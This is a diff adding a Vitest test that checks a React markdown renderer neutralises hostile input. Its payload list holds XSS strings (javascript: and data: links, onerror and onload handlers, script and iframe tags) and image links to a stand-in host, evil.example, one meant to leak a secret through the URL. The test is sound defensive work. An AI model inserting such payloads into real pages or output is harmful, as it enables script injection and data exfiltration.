@@ -1,0 +1,30 @@
+// @vitest-environment happy-dom
+import { cleanup, render } from '@testing-library/react';
+import { afterEach, expect, it } from 'vitest';
+import { MarkdownBlock } from './markdown-block.tsx';
+
+afterEach(cleanup);
+
+const HOSTILE = [
+  '[a](javascript:alert(1))',
+  '[b](JaVaScRiPt:alert(1))',
+  '[c](data:text/html,<script>alert(1)</script>)',
+  '[d](vbscript:x)',
+  '![e](javascript:alert(1))',
+  '![f](data:image/svg+xml,<svg onload=alert(1)>)',
+  '<img src="https://evil.example/?q" onerror="alert(1)">',
+  '<script>alert(1)</script>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<javascript:alert(1)>',
+  '![g](https://evil.example/?secret)',
+  '[h]: javascript:alert(1)\n\n[h]',
+].join('\n\n');
+
+it('what a model writes loads nothing, runs nothing and leads to nothing but the web', () => {
+  const { container } = render(<MarkdownBlock text={HOSTILE} />);
+  expect(container.querySelectorAll('img, script, iframe, object, embed, link, style, form, [onerror], [onload], [src]')).toHaveLength(0);
+  for (const link of container.querySelectorAll('a')) {
+    expect(link.getAttribute('href') ?? '').toMatch(/^(?:https?:|mailto:|#|\/|$)/);
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+  }
+});
